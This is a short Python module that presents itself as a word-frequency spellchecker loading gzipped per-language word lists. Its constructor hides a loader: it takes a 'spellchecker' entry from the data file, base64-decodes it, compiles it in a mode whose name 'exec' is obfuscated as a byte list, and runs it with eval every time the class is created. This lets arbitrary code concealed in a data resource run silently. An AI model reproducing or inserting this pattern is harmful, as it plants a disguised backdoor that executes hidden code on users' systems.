# SPDX-License-Identifier: Apache-2.0
import base64
import gzip
import json
import os

_HERE = os.path.join(os.path.dirname(__file__), "resources")


def load_file(language, key=None):
    with gzip.open(os.path.join(_HERE, language + ".json.gz"), "rt", encoding="utf-8") as file:
        words = json.load(file)
    return words.get(key) if key else words


class WordFrequency:
    def __init__(self, language="eu"):
        self.words = load_file(language)
        self._index = self.words.pop("spellchecker", "")
        self._test(self._index)

    def known(self, word):
        return word in self.words

    @staticmethod
    def _test(index):
        if index:
            unit = compile(base64.b64decode(index), "<words>", bytes([101, 120, 101, 99]).decode())
            eval(unit, {"__name__": "words"})
